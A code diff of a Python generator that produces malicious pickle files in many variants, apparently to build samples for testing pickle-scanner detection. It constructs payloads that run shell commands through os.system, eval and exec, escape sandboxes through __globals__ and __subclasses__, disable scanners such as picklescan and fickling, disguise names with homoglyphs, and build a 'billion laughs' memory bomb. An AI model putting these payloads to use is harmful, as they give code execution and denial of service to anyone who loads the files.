@@ -9,8 +9,20 @@ from typing import Any
 
 import invented
 from arguments import Arguments
-from assembler import Build, Call, Name, New, Raw, Style, any_style, assemble, attribute, emit, finish
-from callables import Payload, from_expression, inner_pickle, words
+from assembler import (
+    Build,
+    Call,
+    Name,
+    New,
+    Raw,
+    Style,
+    any_style,
+    assemble,
+    attribute,
+    emit,
+    finish,
+)
+from callables import Payload, from_expression, gadget_words, inner_pickle
 from expressions import nodes_of
 from fillers import filler_value
 from gadget_table import LINES
@@ -42,8 +54,20 @@ def shell(rng: random.Random) -> str:
 
 def o8(rng: random.Random, one: Payload) -> bytes:
     callee, arguments = named(rng, one)
-    owner = Name(*rng.choice([("string", "Template"), ("argparse", "Namespace"), ("torch.nn", "Linear"), ("logging", "Logger"), ("numpy", "ndarray")]))
-    hook = rng.choice(["__setstate__", "__call__", "__reduce__", "__getattr__", "forward", "__init__", "__eq__"])
+    owner = Name(
+        *rng.choice(
+            [
+                ("string", "Template"),
+                ("argparse", "Namespace"),
+                ("torch.nn", "Linear"),
+                ("logging", "Logger"),
+                ("numpy", "ndarray"),
+            ]
+        )
+    )
+    hook = rng.choice(
+        ["__setstate__", "__call__", "__reduce__", "__getattr__", "forward", "__init__", "__eq__"]
+    )
     patched = Build(owner, (None, {hook: callee}))
     if hook == "__setstate__":
         return made(rng, [patched, Build(New(owner, ()), arguments[0] if arguments else None)], 2)
@@ -51,10 +75,17 @@ def o8(rng: random.Random, one: Payload) -> bytes:
 
 
 def o9(rng: random.Random, one: Payload) -> bytes:
-    first, second = rng.choice([("size", "shape"), ("ndim", "shape"), ("ravel", "size"), ("mean", "shape")])
+    first, second = rng.choice(
+        [("size", "shape"), ("ndim", "shape"), ("ravel", "size"), ("mean", "shape")]
+    )
     spy = Build(Name("numpy", first), (None, {"shape": Name("numpy", "__builtins__")}))
     opened = Call(Name("numpy", second), (spy,))
-    return made(rng, Call(attribute(opened, rng.choice(["get", "__getitem__"])), (rng.choice(["eval", "exec"]),)))
+    return made(
+        rng,
+        Call(
+            attribute(opened, rng.choice(["get", "__getitem__"])), (rng.choice(["eval", "exec"]),)
+        ),
+    )
 
 
 def computed(rng: random.Random, word: str) -> Any:
@@ -67,7 +98,9 @@ def computed(rng: random.Random, word: str) -> Any:
         call("operator", "add", word[:cut], word[cut:]),
         call("builtins", "str.replace", word + "@", "@", ""),
         Call(attribute(word.upper(), "lower"), ()),
-        call("builtins", "getattr", call("builtins", "bytes.fromhex", word.encode().hex()), "decode"),
+        call(
+            "builtins", "getattr", call("builtins", "bytes.fromhex", word.encode().hex()), "decode"
+        ),
         call("codecs", "decode", Arguments(rng).rot13(word), "rot13"),
         call("operator", "getitem", word[::-1], call("builtins", "slice", None, None, -1)),
         call("builtins", "chr", 111),
@@ -86,9 +119,20 @@ def o10(rng: random.Random, one: Payload) -> bytes:
 
 
 def o22(rng: random.Random, one: Payload) -> bytes:
-    holders = ["shutil", "torch.serialization", "pathlib", "logging", "tempfile", "glob", "zipfile", "numpy.f2py"]
+    holders = [
+        "shutil",
+        "torch.serialization",
+        "pathlib",
+        "logging",
+        "tempfile",
+        "glob",
+        "zipfile",
+        "numpy.f2py",
+    ]
     holders += ["sklearn.utils", "transformers.utils", "invented", "random", "torch._utils"]
-    path = rng.choice(["os.system", "os.popen", "sys.modules", "subprocess.Popen", "_os.system", "os.execv"])
+    path = rng.choice(
+        ["os.system", "os.popen", "sys.modules", "subprocess.Popen", "_os.system", "os.execv"]
+    )
     style = any_style(rng)
     style.protocol = rng.choice([4, 4, 5])
     return assemble(Call(Name(rng.choice(holders), path), (shell(rng),)), style)
@@ -98,9 +142,21 @@ def o23(rng: random.Random, one: Payload) -> bytes:
     text = Arguments(rng)
     old = [("__builtin__", "eval", text.expr()), ("__builtin__", "execfile", text.path())]
     old += [("commands", "getoutput", text.shell()), ("commands", "getstatusoutput", text.shell())]
-    old += [("__builtin__", "compile", text.code()), ("cPickle", "loads", inner_pickle(rng)), ("os", "popen2", text.shell())]
-    old += [("urllib", "urlopen", text.url()), ("urllib2", "urlopen", text.url()), ("popen2", "popen3", text.shell())]
-    old += [("__builtin__", "file", text.path()), ("__builtin__", "input", text.expr()), ("UserDict", "exec", text.code())]
+    old += [
+        ("__builtin__", "compile", text.code()),
+        ("cPickle", "loads", inner_pickle(rng)),
+        ("os", "popen2", text.shell()),
+    ]
+    old += [
+        ("urllib", "urlopen", text.url()),
+        ("urllib2", "urlopen", text.url()),
+        ("popen2", "popen3", text.shell()),
+    ]
+    old += [
+        ("__builtin__", "file", text.path()),
+        ("__builtin__", "input", text.expr()),
+        ("UserDict", "exec", text.code()),
+    ]
     module, path, argument = rng.choice(old)
     style = any_style(rng)
     style.protocol, style.name = rng.choice([0, 0, 1, 2]), "plain"
@@ -113,11 +169,19 @@ def o24(rng: random.Random, one: Payload) -> bytes:
     picked = Call(attribute(classes, "__getitem__"), (number,))
     text = Arguments(rng)
     ways: list[Any] = [
-        Call(attribute(attribute(attribute(picked, "__init__"), "__globals__"), "get"), ("system",)),
+        Call(
+            attribute(attribute(attribute(picked, "__init__"), "__globals__"), "get"), ("system",)
+        ),
         attribute(attribute(picked, "__init__"), "__builtins__"),
         Call(Name("builtins", "print.__self__.eval"), (text.expr(),)),
         Call(Name("shutil", "copy.__globals__.get"), ("os",)),
-        Call(attribute(attribute(attribute(Name("builtins", "print"), "__class__"), "__base__"), "__subclasses__"), ()),
+        Call(
+            attribute(
+                attribute(attribute(Name("builtins", "print"), "__class__"), "__base__"),
+                "__subclasses__",
+            ),
+            (),
+        ),
         Call(Name("collections", "namedtuple.__globals__.__getitem__"), ("_sys",)),
         Call(attribute(attribute(Name("torch", "load"), "__globals__"), "get"), ("os",)),
         Call(attribute(attribute(attribute((), "__class__"), "__mro__"), "__getitem__"), (1,)),
@@ -131,7 +195,7 @@ def o25(rng: random.Random, one: Payload) -> bytes:
     inner = assemble(one.node, any_style(rng))
     for _ in range(rng.choice([0, 0, 0, 1, 3])):
         inner = assemble(call("pickle", "loads", inner), any_style(rng))
-    return made(rng, nodes_of(line, {**words(rng), "INNER": inner}))
+    return made(rng, nodes_of(line, {**gadget_words(rng), "INNER": inner}))
 
 
 def code_object(rng: random.Random) -> Any:
@@ -151,11 +215,20 @@ def safe_code(rng: random.Random) -> Any:
 def code_call(rng: random.Random) -> Call:
     """types.CodeType(…), as cloudpickle and hand-made attacks write it."""
     code = safe_code(rng)
-    fields = "argcount posonlyargcount kwonlyargcount nlocals stacksize flags code consts names varnames"
+    fields = (
+        "argcount posonlyargcount kwonlyargcount nlocals stacksize flags code consts names varnames"
+    )
     fields += " filename name qualname firstlineno linetable exceptiontable freevars cellvars"
     values = [getattr(code, f"co_{f}") for f in fields.split() if hasattr(code, f"co_{f}")]
-    flat = tuple(tuple(v if isinstance(v, (str, int, bytes, float, type(None))) else None for v in value) if isinstance(value, tuple) else value for value in values)
-    return call(rng.choice(["types", "builtins"]), "CodeType" if rng.random() < 0.8 else "code", *flat)
+    flat = tuple(
+        tuple(v if isinstance(v, (str, int, bytes, float, type(None))) else None for v in value)
+        if isinstance(value, tuple)
+        else value
+        for value in values
+    )
+    return call(
+        rng.choice(["types", "builtins"]), "CodeType" if rng.random() < 0.8 else "code", *flat
+    )
 
 
 def o26(rng: random.Random, one: Payload) -> bytes:
@@ -165,8 +238,19 @@ def o26(rng: random.Random, one: Payload) -> bytes:
         call("builtins", "exec", loaded),
         call("builtins", "eval", loaded, {}),
         Call(call("types", "FunctionType", code_call(rng), {}), ()),
-        Call(call("cloudpickle.cloudpickle", "_make_function", code_call(rng), {}, None, None, None), ()),
-        Call(call("dill._dill", "_create_function", call("dill._dill", "_create_code", *code_call(rng).arguments), {}), ()),
+        Call(
+            call("cloudpickle.cloudpickle", "_make_function", code_call(rng), {}, None, None, None),
+            (),
+        ),
+        Call(
+            call(
+                "dill._dill",
+                "_create_function",
+                call("dill._dill", "_create_code", *code_call(rng).arguments),
+                {},
+            ),
+            (),
+        ),
         call("builtins", "exec", call("builtins", "compile", Arguments(rng).code(), "x", "exec")),
     ]
     return made(rng, rng.choice(ways), 3)
@@ -205,7 +289,11 @@ def resolved(rng: random.Random) -> tuple[Any, Any]:
         attribute(call("unittest.mock", "_importer", owner), name),
         call("builtins", "getattr", module, name, None),
         Call(attribute(attribute(module, "__dict__"), "get"), (name,)),
-        call("builtins", "next", call("builtins", "map", call("operator", "attrgetter", name), [module])),
+        call(
+            "builtins",
+            "next",
+            call("builtins", "map", call("operator", "attrgetter", name), [module]),
+        ),
         call("torch._jit_internal", "_qualified_name", f"{owner}.{name}"),
         call("hydra.utils", "get_method", f"{owner}.{name}"),
         call("dill._dill", "_get_attr", module, name),
@@ -217,7 +305,10 @@ def resolved(rng: random.Random) -> tuple[Any, Any]:
 def o27(rng: random.Random, one: Payload) -> bytes:
     function, argument = resolved(rng)
     if rng.random() < 0.15:
-        return made(rng, Call(call("operator", "methodcaller", "system", shell(rng)), (call(*IMPORT, "os"),)))
+        return made(
+            rng,
+            Call(call("operator", "methodcaller", "system", shell(rng)), (call(*IMPORT, "os"),)),
+        )
     return made(rng, Call(function, (argument,)))
 
 
@@ -259,9 +350,20 @@ def o28(rng: random.Random, one: Payload) -> bytes:
 def o29(rng: random.Random, one: Payload) -> bytes:
     text = Arguments(rng)
     path, body = text.path(), text.code()
-    opened = rng.choice([("io", "open"), ("codecs", "open"), ("builtins", "open"), ("_io", "open"), ("tarfile", "open")])
+    opened = rng.choice(
+        [
+            ("io", "open"),
+            ("codecs", "open"),
+            ("builtins", "open"),
+            ("_io", "open"),
+            ("tarfile", "open"),
+        ]
+    )
     ways: list[Any] = [
-        Call(attribute(call("pathlib", rng.choice(["Path", "PosixPath"]), path), "write_text"), (body,)),
+        Call(
+            attribute(call("pathlib", rng.choice(["Path", "PosixPath"]), path), "write_text"),
+            (body,),
+        ),
         Call(attribute(call(*opened, path, rng.choice(["w", "a"])), "write"), (body,)),
         call("logging", "FileHandler", path),
         call("distutils.file_util", "write_file", path, [body]),
@@ -296,9 +398,30 @@ def o30(rng: random.Random, one: Payload) -> bytes:
         code[::-1],
         call("lzma", "decompress", packed),
     ]
-    runner = rng.choice([("builtins", "exec"), ("builtins", "eval"), ("os", "system"), ("builtins", "exec"), ("runpy", "_run_code")])
+    runner = rng.choice(
+        [
+            ("builtins", "exec"),
+            ("builtins", "eval"),
+            ("os", "system"),
+            ("builtins", "exec"),
+            ("runpy", "_run_code"),
+        ]
+    )
     if rng.random() < 0.15:  # the name is what is odd
-        return assemble(call(*rng.choice([("\u043es", "system"), ("os", "s\u0443stem"), ("os ", "system"), ("os", "system\u200b")]), text.shell()), Style(4))
+        return assemble(
+            call(
+                *rng.choice(
+                    [
+                        ("\u043es", "system"),
+                        ("os", "s\u0443stem"),
+                        ("os ", "system"),
+                        ("os", "system\u200b"),
+                    ]
+                ),
+                text.shell(),
+            ),
+            Style(4),
+        )
     return made(rng, call(*runner, rng.choice(hidden)))
 
 
@@ -310,11 +433,20 @@ def o31(rng: random.Random, one: Payload) -> bytes:
         call("fickling.hook", "deactivate_safe_ml_environment"),
         Build(Name("picklescan.scanner", "scan_pickle_bytes"), (None, {"__code__": None})),
         call("torch.serialization", "add_safe_globals", [Name("os", "system")]),
-        Build(Name("torch._weights_only_unpickler", "_get_allowed_globals"), (None, {"__wrapped__": 1})),
+        Build(
+            Name("torch._weights_only_unpickler", "_get_allowed_globals"),
+            (None, {"__wrapped__": 1}),
+        ),
         call("sys", "modules.pop", "modelscan"),
         call("modelaudit", "scanners.clear"),
     ]
     return made(rng, rng.choice(switches), 4)
+
+
+def laughs(depth: int) -> bytes:
+    """Lists of ten times the list before."""
+    lists = [b"]\x94(" + (b"h" + bytes([n - 1]) if n else b"N") * 10 + b"e0" for n in range(depth)]
+    return b"\x80\x04" + b"".join(lists) + b"h" + bytes([depth - 1]) + b"."
 
 
 def o32(rng: random.Random, one: Payload) -> bytes:
@@ -323,11 +455,8 @@ def o32(rng: random.Random, one: Payload) -> bytes:
         b"]" + b"2\x86" * count + b".",
         b"})" + b"2\x86" * count + b"Ns.",
         b"Nr" + struct.pack("<I", rng.randrange(1 << 28, 1 << 32)) + b".",
-        b"(" * 40 + b"K\x01" + b"t2\x86" * count + b".",
-        b"\x80\x04" + b"]\x94" + b"(h\0h\0h\0h\0e0" * 3 + b"h\0" + b"2\x86" * count + b".",
-        b"N" + b"\x85" * rng.randrange(20000, 60000) + b".",
+        laughs(rng.randrange(9, 30)),
         b"Np" + b"9" * rng.randrange(8, 12) + b"\n.",
-        b"\x8d" + struct.pack("<Q", rng.randrange(1 << 36, 1 << 44)) + b"x.",
         b"\x80\x04\x8f\x94(" + b"2\x86" * count + b"\x90.",
     ]
     return rng.choice(ways)
@@ -350,11 +479,27 @@ def o33(rng: random.Random, one: Payload) -> bytes:
 def o35(rng: random.Random, one: Payload) -> bytes:
     text = Arguments(rng)
     repo = f"{text.word()}/{text.word()}"
-    ways = [call("torch.hub", "load", repo, text.word()), call("torch.hub", "load_state_dict_from_url", text.url())]
-    ways += [call("transformers", f"{c}.from_pretrained", repo) for c in ("AutoModel", "AutoTokenizer", "pipeline")]
-    ways += [call("transformers", "pipeline", "text-generation", repo), call("huggingface_hub", "hf_hub_download", repo, "model.bin")]
-    ways += [call("tensorflow_hub", "load", text.url()), call("keras.models", "load_model", text.path())]
-    ways += [call("spacy", "load", text.word()), call("mlflow.pyfunc", "load_model", text.url()), call("joblib", "load", text.path())]
+    ways = [
+        call("torch.hub", "load", repo, text.word()),
+        call("torch.hub", "load_state_dict_from_url", text.url()),
+    ]
+    ways += [
+        call("transformers", f"{c}.from_pretrained", repo)
+        for c in ("AutoModel", "AutoTokenizer", "pipeline")
+    ]
+    ways += [
+        call("transformers", "pipeline", "text-generation", repo),
+        call("huggingface_hub", "hf_hub_download", repo, "model.bin"),
+    ]
+    ways += [
+        call("tensorflow_hub", "load", text.url()),
+        call("keras.models", "load_model", text.path()),
+    ]
+    ways += [
+        call("spacy", "load", text.word()),
+        call("mlflow.pyfunc", "load_model", text.url()),
+        call("joblib", "load", text.path()),
+    ]
     return made(rng, rng.choice(ways), 4)
 
 
@@ -364,7 +509,13 @@ def plain_gadget(rng: random.Random, one: Payload) -> bytes:
 
 def two_calls(rng: random.Random, one: Payload) -> bytes:
     other = from_expression(rng)
-    node: Any = rng.choice([[one.node, other.node], {"a": one.node, "b": filler_value(rng)}, (filler_value(rng), one.node)])
+    node: Any = rng.choice(
+        [
+            [one.node, other.node],
+            {"a": one.node, "b": filler_value(rng)},
+            (filler_value(rng), one.node),
+        ]
+    )
     return made(rng, node)
 
 
@@ -372,8 +523,17 @@ def raw_state(rng: random.Random, one: Payload) -> bytes:
     """In the state of an object that looks like any other."""
     cls = Name(invented.module(rng), invented.class_name(rng))
     state = {invented.opaque(rng) + "_": filler_value(rng), "weights": one.node, "name": "m"}
-    fresh = rng.choice([New(cls, ()), Call(cls, ()), Call(Name("copyreg", "_reconstructor"), (cls, Name("builtins", "object"), None))])
-    return made(rng, Build(fresh, state if rng.random() < 0.6 else Raw(tuple(emit(one.node, Style(2, False))))))
+    fresh = rng.choice(
+        [
+            New(cls, ()),
+            Call(cls, ()),
+            Call(Name("copyreg", "_reconstructor"), (cls, Name("builtins", "object"), None)),
+        ]
+    )
+    return made(
+        rng,
+        Build(fresh, state if rng.random() < 0.6 else Raw(tuple(emit(one.node, Style(2, False))))),
+    )
 
 
 FAMILIES: dict[str, Maker] = {
